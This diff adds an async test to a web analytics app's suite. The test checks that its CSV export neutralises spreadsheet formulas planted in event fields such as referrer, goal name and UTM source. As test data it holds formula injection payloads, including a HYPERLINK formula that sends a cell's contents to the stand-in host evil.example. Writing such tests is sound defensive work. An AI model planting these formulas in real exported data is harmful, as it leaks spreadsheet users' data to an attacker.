@@ -370,6 +370,45 @@ async def test_export_streams_every_event_as_csv(client: Client, adapters: Adapt
     assert sorted(r["event_id"] for r in again) == sorted(r["event_id"] for r in parsed)
 
 
+async def test_export_neutralises_spreadsheet_formulas_in_cells(client: Client, adapters: Adapters) -> None:
+    """Anyone can send a referrer or goal name to /track: a spreadsheet must show it, not run it."""
+    owner = await signup(client)
+    site = await owner.create_site()
+    formula = '=HYPERLINK("http://evil.example/?"&A1;"Click")'
+    await adapters.event_store.insert(
+        "events",
+        [
+            [
+                uuid.UUID(site["id"]),
+                uuid.uuid4(),
+                "goal",
+                datetime(2026, 1, 1, tzinfo=UTC),
+                "v1",
+                "s1",
+                "/pricing",
+                "=1+2",
+                formula,
+                "@SUM(A1:A9)",
+            ]
+        ],
+        [
+            *("website_id", "event_id", "event_type", "timestamp", "visitor_id", "session_id"),
+            *("pathname", "referrer", "goal_name", "utm_source"),
+        ],
+    )
+
+    response = await owner.get(f"/api/v1/sites/{site['id']}/export")
+
+    assert response.status_code == 200, response.text
+    [row] = list(csv.DictReader(io.StringIO(response.text)))
+    # defusedcsv's escaping: a leading quote makes the cell text (and "|" cannot start a DDE call)
+    assert row["referrer"] == "'=1+2"
+    assert row["goal_name"] == "'" + formula
+    assert row["utm_source"] == "'@SUM(A1:A9)"
+    assert (row["pathname"], row["event_type"], row["visitor_id"]) == ("/pricing", "goal", "v1")
+    assert row["website_id"] == site["id"]
+
+
 async def test_delete_account_deletes_owned_sites_and_keeps_shared_ones(
     client: Client, mailbox: Mailbox, db_session: AsyncSession
 ) -> None:
